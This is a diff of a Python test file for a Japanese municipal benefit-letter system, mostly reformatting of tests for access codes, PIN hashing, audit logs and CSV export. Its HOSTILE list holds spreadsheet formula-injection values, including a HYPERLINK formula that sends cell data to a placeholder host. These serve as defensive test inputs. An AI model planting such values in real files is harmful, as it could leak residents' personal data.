@@ -13,8 +13,15 @@ from app import csvsafe
 from app.registry.eligibility import determine_eligibility
 from app.registry.imports import import_residents
 from app.registry.letters import (
-    ALPHABET, InvalidAccessCode, check_symbol, export_letters, format_access_code, issue_letters, new_access_code,
-    normalise_access_code, reissue_letter,
+    ALPHABET,
+    InvalidAccessCode,
+    check_symbol,
+    export_letters,
+    format_access_code,
+    issue_letters,
+    new_access_code,
+    normalise_access_code,
+    reissue_letter,
 )
 from app.registry.pins import pin_key, pin_matches
 from app.registry.programs import create_program, parse_program
@@ -31,7 +38,7 @@ def test_access_codes_are_typable_and_catch_single_typos():
     assert normalise_access_code(shown.replace("1", "I").replace("0", "O")) == code
     for i in range(12):
         for wrong in "0Z":
-            typo = code[:i] + wrong + code[i + 1:]
+            typo = code[:i] + wrong + code[i + 1 :]
             if typo != code:
                 with pytest.raises(InvalidAccessCode):
                     normalise_access_code(typo)
@@ -42,8 +49,19 @@ async def _letter_program(app_pool, code, households=3):
     rows = [person(household_no=f"{i}") for i in range(households)]
     async with tenant_transaction(app_pool, code) as conn:
         await import_residents(conn, code, residents_csv(rows))
-        program_id = await create_program(conn, code, parse_program(dict(
-            name="確認書型", base_date=dt.date(2026, 4, 1), unit="household", amount_yen=30000, payment_mode="letter")))
+        program_id = await create_program(
+            conn,
+            code,
+            parse_program(
+                dict(
+                    name="確認書型",
+                    base_date=dt.date(2026, 4, 1),
+                    unit="household",
+                    amount_yen=30000,
+                    payment_mode="letter",
+                )
+            ),
+        )
         await determine_eligibility(conn, code, program_id)
     return program_id, rows
 
@@ -52,7 +70,7 @@ async def test_issue_export_once_and_pins_only_as_keyed_hashes(app_pool, code, c
     program_id, rows = await _letter_program(app_pool, code)
     async with tenant_transaction(app_pool, code) as conn:
         issued = await issue_letters(conn, cipher, code, program_id, "test")
-        assert await issue_letters(conn, cipher, code, program_id, "test") == []   # one letter per entitlement
+        assert await issue_letters(conn, cipher, code, program_id, "test") == []  # one letter per entitlement
         stored = {r["access_code"]: r for r in await conn.fetch("SELECT * FROM letters")}
     assert len(issued) == 3 and len(stored) == 3
     key = pin_key(cipher)
@@ -62,12 +80,15 @@ async def test_issue_export_once_and_pins_only_as_keyed_hashes(app_pool, code, c
     async with tenant_transaction(app_pool, code) as conn:
         lines = await export_letters(conn, cipher, code, program_id, "test")
     assert sorted((line[0], line[1]) for line in lines) == sorted(
-        (format_access_code(i.access_code), i.pin) for i in issued)
+        (format_access_code(i.access_code), i.pin) for i in issued
+    )
     assert {line[3] for line in lines} == {"東京都千代田区1-1"} and {line[6] for line in lines} == {"30000"}
     async with tenant_transaction(app_pool, code) as conn:
         assert await export_letters(conn, cipher, code, program_id, "test") == []
         left = await conn.fetchval("SELECT count(*) FROM letters WHERE pin_enc IS NOT NULL OR exported_at IS NULL")
-        events = [r[0] for r in await conn.fetch("SELECT action FROM audit_log WHERE action LIKE 'letters.%' ORDER BY seq")]
+        events = [
+            r[0] for r in await conn.fetch("SELECT action FROM audit_log WHERE action LIKE 'letters.%' ORDER BY seq")
+        ]
     assert left == 0
     assert events == ["letters.issue", "letters.issue", "letters.export", "letters.export"]
 
@@ -101,20 +122,43 @@ HOSTILE = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
-async def test_the_print_file_from_kyufu_letters_export_carries_no_formula(app_pool, code, subprocess_env, tmp_path,
-                                                                          encoding):
+async def test_the_print_file_from_kyufu_letters_export_carries_no_formula(
+    app_pool, code, subprocess_env, tmp_path, encoding
+):
     """Addresses and names come from the registry extract; in the print file a spreadsheet must read them as text."""
     rows = [person(household_no=f"F{i}", address=value, family_name=value) for i, value in enumerate(HOSTILE)]
     async with tenant_transaction(app_pool, code) as conn:
         await import_residents(conn, code, residents_csv(rows))
-        program_id = await create_program(conn, code, parse_program(dict(
-            name="確認書型", base_date=dt.date(2026, 4, 1), unit="household", amount_yen=30000, payment_mode="letter")))
+        program_id = await create_program(
+            conn,
+            code,
+            parse_program(
+                dict(
+                    name="確認書型",
+                    base_date=dt.date(2026, 4, 1),
+                    unit="household",
+                    amount_yen=30000,
+                    payment_mode="letter",
+                )
+            ),
+        )
         await determine_eligibility(conn, code, program_id)
     r = run_cli(subprocess_env, "letters", "issue", "--municipality", code, "--program", str(program_id))
     assert r.returncode == 0, r.stderr
     out = tmp_path / "print.csv"
-    r = run_cli(subprocess_env, "letters", "export", "--municipality", code, "--program", str(program_id),
-                "--out", str(out), "--encoding", encoding)
+    r = run_cli(
+        subprocess_env,
+        "letters",
+        "export",
+        "--municipality",
+        code,
+        "--program",
+        str(program_id),
+        "--out",
+        str(out),
+        "--encoding",
+        encoding,
+    )
     assert r.returncode == 0, r.stderr
     text = out.read_bytes().decode("utf-8-sig" if encoding == "utf-8" else "cp932")
     header, *lines = csv.reader(io.StringIO(text, newline=""))
